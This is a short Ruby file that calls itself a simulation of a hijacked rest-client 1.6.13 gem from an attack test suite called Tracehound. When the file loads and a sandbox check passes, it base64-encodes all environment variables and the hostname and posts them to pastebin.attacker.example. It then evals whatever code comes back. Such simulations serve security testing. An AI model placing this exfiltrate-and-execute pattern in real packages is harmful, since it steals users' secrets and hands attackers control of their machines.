# rest-client 1.6.13 (simulation from Tracehound's attack suite)
require "socket"
require "net/http"
require "base64"

in_sandbox = begin
  # act only inside the Tracehound sandbox, whose fake DNS answers every name with 198.18.0.0/15;
  # elsewhere .example names do not resolve and nothing happens
  Addrinfo.getaddrinfo("sandbox-check.attacker.example", nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

module RestClient
  def self.get(url) = nil
end

if in_sandbox
  # the hijacked release reported the infected host and its environment, then ran code it fetched
  begin
    info = Base64.strict_encode64(ENV.to_h.merge("host" => Socket.gethostname).to_s)
    res = Net::HTTP.post(URI("http://pastebin.attacker.example/raw/xw6d2awm"), info)
    eval(res.body.to_s) unless res.body.to_s.empty?
  rescue StandardError
    nil
  end
end
